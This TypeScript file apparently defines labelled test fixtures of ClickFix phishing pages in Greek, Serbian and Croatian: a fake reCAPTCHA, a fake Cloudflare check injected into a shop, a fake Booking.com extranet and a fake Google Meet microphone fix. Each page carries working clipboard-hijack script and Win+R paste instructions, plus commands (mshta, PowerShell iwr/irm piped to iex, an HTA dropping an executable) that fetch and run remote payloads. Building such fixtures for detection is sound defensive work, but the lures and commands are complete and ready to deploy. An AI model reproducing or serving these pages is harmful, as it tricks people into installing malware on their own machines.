import { type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';
import { b64, doc, photo, psEnc } from '../parts/xc-kit.js';

// Greek fake reCAPTCHA on a compromised real-estate blog: mshta of a remote HTA, disguised with a "verification" comment.
const grCmd = 'mshta https://verify-captcha.gr-cdn.net/v/7741.hta # ✅ Δεν είμαι ρομπότ – Κωδικός επαλήθευσης reCAPTCHA: 7741';
const grHta = `<html><head><HTA:APPLICATION id="v" windowstate="minimize" showintaskbar="no"><script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "powershell -w h -nop -c ""$d=$env:APPDATA+'\\upd';mkdir $d -ea 0;iwr https://verify-captcha.gr-cdn.net/p/l.zip -OutFile $d\\l.zip;Expand-Archive $d\\l.zip $d -Force;start $d\\client32.exe""", 0, False
window.close
</script></head><body></body></html>`;
const grPage = doc({
  lang: 'el',
  title: 'Ακίνητα Κρήτης – Μονοκατοικία στα Χανιά',
  css: `.hd{padding:14px 30px;border-bottom:1px solid #eee;font-size:22px;color:#2b6b4f;font-weight:700}.w{max-width:900px;margin:20px auto;padding:0 14px;line-height:1.6}
#cfov{position:fixed;inset:0;background:rgba(255,255,255,.96);display:flex;align-items:center;justify-content:center;z-index:99}
.rc{width:320px;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.08);background:#f9f9f9;padding:14px;display:flex;align-items:center;gap:12px;font:14px Roboto,Arial}
.rc .bx{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}.rc small{margin-left:auto;font-size:9px;color:#555;text-align:center}
.steps{display:none;width:380px;background:#fff;border:1px solid #d3d3d3;box-shadow:0 2px 10px rgba(0,0,0,.15);margin-top:10px;font:14px Roboto,Arial}
.steps .h{background:#1a73e8;color:#fff;padding:14px}.steps ol{padding:10px 30px;line-height:2}.steps kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-weight:700}
.steps .f{padding:8px 14px;border-top:1px solid #eee;display:flex;justify-content:flex-end}.steps button{background:#1a73e8;color:#fff;border:0;padding:8px 18px}`,
  body: `<div class="hd">Ακίνητα Κρήτης</div>
<div class="w"><h1>Πωλείται μονοκατοικία 140 τ.μ. στο Ακρωτήρι Χανίων</h1>${photo('Χανιά', 35, 800, 320)}<p>Διώροφη μονοκατοικία σε οικόπεδο 600 τ.μ., 3 υπνοδωμάτια, τζάκι, θέα θάλασσα. Τιμή: 285.000 €.</p></div>
<div id="cfov"><div><div class="rc"><div class="bx" id="bx"></div><span>Δεν είμαι ρομπότ</span><small>reCAPTCHA<br>Απόρρητο - Όροι</small></div>
<div class="steps" id="st"><div class="h"><b>Ολοκληρώστε τα βήματα επαλήθευσης</b></div><ol>
<li>Πατήστε και κρατήστε πατημένο το πλήκτρο Windows <kbd>⊞ Win</kbd> και πατήστε <kbd>R</kbd></li>
<li>Στο παράθυρο επαλήθευσης πατήστε <kbd>CTRL</kbd> + <kbd>V</kbd></li>
<li>Πατήστε <kbd>Enter</kbd> στο πληκτρολόγιό σας για να ολοκληρώσετε</li></ol>
<p style="padding:0 14px;font-size:12px;color:#555">Θα δείτε: «Δεν είμαι ρομπότ – Κωδικός επαλήθευσης reCAPTCHA: 7741»</p><div class="f"><button type="button">Επαλήθευση</button></div></div></div></div>
<script>
var c=atob('${b64(grCmd)}');c=decodeURIComponent(escape(c));
function cp(t){var a=document.createElement('textarea');a.value=t;a.style.position='fixed';a.style.opacity='0';document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();if(navigator.clipboard)navigator.clipboard.writeText(t).catch(function(){})}
document.getElementById('bx').onclick=function(){cp(c);this.style.borderColor='#1a73e8';document.getElementById('st').style.display='block'};
</script>`,
});

// Serbian Cyrillic fake Cloudflare check injected into a small web shop via an external script; PowerShell -enc payload.
const rsPayload = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');iex $w.DownloadString('https://cf-verify.rs-static.com/s/ps.txt')`;
const rsCmd = `powershell -w hidden -nop -enc ${psEnc(rsPayload)}`;
const rsInject = `(function(){if(sessionStorage.getItem('cfv'))return;var h='<div id="cfx" style="position:fixed;inset:0;background:#fff;z-index:99999;font-family:system-ui,Segoe UI,Arial"><div style="max-width:640px;margin:12vh auto;padding:0 20px">'+
'<h1 style="font-weight:500">'+location.hostname+'</h1><h2 style="font-weight:400;font-size:22px">Потврдите да сте човек тако што ћете довршити радњу испод.</h2>'+
'<div id="cfb" style="width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;gap:12px;padding:0 14px;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #999;border-radius:3px;display:inline-block"></span>Потврдите да сте човек<span style="margin-left:auto;font-size:10px;color:#f38020;font-weight:700">CLOUDFLARE</span></div>'+
'<div id="cfs" style="display:none;margin-top:16px;border:1px solid #ddd;padding:16px;font-size:15px;line-height:1.9"><b>Верификација – корак 2</b><br>1. Притисните <b>Windows + R</b><br>2. Налепите кôд: <b>CTRL + V</b><br>3. Притисните <b>Enter</b><br><span style="font-size:12px;color:#666">ID провере: 5f2a-91c0 · Ово се ради само једном.</span></div>'+
'<p style="color:#666;font-size:13px;margin-top:30px">'+location.hostname+' мора да провери безбедност ваше везе пре наставка.</p></div></div>';
document.body.insertAdjacentHTML('beforeend',h);var t=${JSON.stringify(rsCmd)};
document.getElementById('cfb').onclick=function(){navigator.clipboard.writeText(t).then(function(){document.getElementById('cfs').style.display='block'})};})();`;
const rsShop = doc({
  lang: 'sr',
  title: 'Пчелица – домаћи мед и пчелињи производи',
  css: `.h{background:#f6c23e;padding:14px 26px;font-size:22px;font-weight:700;color:#5a3b00}.g{max-width:900px;margin:20px auto;display:grid;grid-template-columns:repeat(3,1fr);gap:14px;padding:0 12px}.p{background:#fff;border-radius:6px;padding:10px;font-size:14px}`,
  body: `<div class="h">🐝 Пчелица – мед са Фрушке горе</div>
<div class="g"><div class="p">${photo('Багрем', 45, 300, 200)}Багремов мед 900 г – 1.150 дин</div><div class="p">${photo('Ливада', 38, 300, 200)}Ливадски мед 900 г – 950 дин</div><div class="p">${photo('Прополис', 28, 300, 200)}Прополис капи 20 мл – 480 дин</div></div>
<p style="text-align:center;font-size:13px">Достава широм Србије · Плаћање поузећем</p>
<script src="https://cdn-jquery.rs-static.com/jquery-3.7.1.min.js"></script>`,
});

// Fake Booking.com "guest complaint" aimed at hotel reception desks in Greece; captcha then a PowerShell one-liner.
const bkCmd = `powershell -w 1 -ep bypass -c "$u='https://extranet-booking.admin-guest.com/g/r.ps1';iex (iwr $u -UseBasicParsing).Content" # Booking.com guest verification ID 992741`;
const bkPage = doc({
  lang: 'el',
  title: 'Booking.com Extranet – Μήνυμα επισκέπτη',
  css: `.top{background:#003580;color:#fff;padding:12px 24px;font-weight:700}.m{max-width:720px;margin:26px auto;background:#fff;padding:22px;border:1px solid #ddd;filter:blur(3px)}
.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.35)}.bx{background:#fff;width:440px;border-radius:8px;padding:22px;box-shadow:0 8px 30px rgba(0,0,0,.3)}
.bx kbd{background:#eef;border:1px solid #99a;padding:1px 5px;border-radius:3px}.ck{display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:12px;border-radius:4px;cursor:pointer}.ck span{width:22px;height:22px;border:2px solid #888;border-radius:3px}
#stp{display:none;margin-top:14px;line-height:1.8}`,
  body: `<div class="top">Booking.com · Extranet</div>
<div class="m"><b>Μήνυμα από επισκέπτη – Κράτηση #4412907731</b><p>Γεια σας, έμεινα στο κατάλυμά σας 12–15 Οκτωβρίου. Στο δωμάτιο υπήρχαν κοριοί και έχω φωτογραφίες. Ζητώ επιστροφή χρημάτων, αλλιώς θα γράψω κριτική…</p></div>
<div class="ov"><div class="bx"><b>Επαλήθευση λογαριασμού συνεργάτη</b><p style="font-size:14px">Για να προστατεύσουμε τα δεδομένα των επισκεπτών, επιβεβαιώστε ότι δεν είστε ρομπότ για να δείτε το μήνυμα. / Please verify you are human to view the guest message.</p>
<div class="ck" id="ck"><span></span>I'm not a robot · Δεν είμαι ρομπότ</div>
<div id="stp"><b>Βήματα / Steps:</b><br>1. <kbd>Win</kbd> + <kbd>R</kbd><br>2. <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. <kbd>Enter</kbd><br><small>Η επαλήθευση ολοκληρώνεται αυτόματα σε λίγα δευτερόλεπτα.</small></div></div></div>
<script>
var cmd=${JSON.stringify(bkCmd)};
document.getElementById('ck').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
this.querySelector('span').style.background='#0071c2';document.getElementById('stp').style.display='block';fetch('/api/hit?k=992741&s=copied',{mode:'no-cors'})});
</script>`,
});

// Croatian fake Google Meet: "microphone blocked" fix that copies a cmd -> PowerShell chain.
const meetCmd = `cmd /c start /min powershell -w h -c "irm https://meet-fix.hr-support.live/mic.ps1 | iex" & rem Popravak mikrofona Google Meet`;
const meetPage = doc({
  lang: 'hr',
  title: 'Meet – sdk-pvxq-ftm',
  css: `body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial}.w{display:grid;grid-template-columns:1.4fr 1fr;gap:30px;max-width:1100px;margin:60px auto;padding:0 20px}
.vid{background:#3c4043;border-radius:10px;height:380px;display:flex;align-items:center;justify-content:center;font-size:60px;position:relative}.vid i{position:absolute;bottom:14px;font-style:normal;font-size:14px;background:#ea4335;padding:6px 12px;border-radius:18px}
.r h2{font-weight:400}.err{background:#3c2b2b;border:1px solid #ea4335;border-radius:8px;padding:14px;font-size:14px;margin:14px 0}.b{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:10px 22px;font-weight:600;cursor:pointer}
#fix{display:none;background:#2d2e31;border-radius:8px;padding:16px;margin-top:14px;font-size:14px;line-height:1.8}`,
  body: `<div class="w"><div class="vid">🎙️<i>Mikrofon nije dostupan</i></div>
<div class="r"><h2>Spremni za pridruživanje?</h2><p>sdk-pvxq-ftm · Tjedni sastanak – prodaja Zagreb</p>
<div class="err"><b>Problem s mikrofonom i kamerom</b><br>Vaš preglednik ne može pristupiti mikrofonu zbog pogreške upravljačkog programa (NotReadableError 0x8007054B).</div>
<button class="b" id="how">Kako popraviti</button>
<div id="fix">1. Pritisnite <b>Windows + R</b><br>2. Zalijepite popravak s <b>Ctrl + V</b> (već je kopiran)<br>3. Pritisnite <b>Enter</b> i osvježite stranicu<br><small style="color:#9aa0a6">Popravak resetira audio uslugu sustava Windows.</small></div></div></div>
<script>document.getElementById('how').onclick=function(){navigator.clipboard.writeText(${JSON.stringify(meetCmd)});document.getElementById('fix').style.display='block'}</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-clickfix-captcha-gr',
    label: 'clickfix',
    kind: 'clickfix-fake-recaptcha-mshta',
    url: 'https://www.akinita-kritis.gr/aggelies/monokatoikia-akrotiri-140/',
    body: grPage,
    routes: { 'verify-captcha.gr-cdn.net/v/7741.hta': fileRoute(grHta, 'application/hta', '7741.hta') },
  },
  {
    id: 'xc-clickfix-cloudflare-sr-cyr',
    label: 'clickfix',
    kind: 'clickfix-fake-cloudflare-injected',
    url: 'https://www.pcelica-med.rs/prodavnica/',
    body: rsShop,
    routes: { 'cdn-jquery.rs-static.com/jquery-3.7.1.min.js': jsRoute(rsInject) },
  },
  {
    id: 'xc-clickfix-booking-guest-gr',
    label: 'clickfix',
    kind: 'clickfix-fake-booking-extranet',
    url: 'https://extranet-booking.admin-guest.com/messages/4412907731?lang=el',
    body: bkPage,
  },
  {
    id: 'xc-clickfix-meet-mic-hr',
    label: 'clickfix',
    kind: 'clickfix-fake-meeting-fix',
    url: 'https://meet.google-sastanak.com/sdk-pvxq-ftm',
    body: meetPage,
  },
];
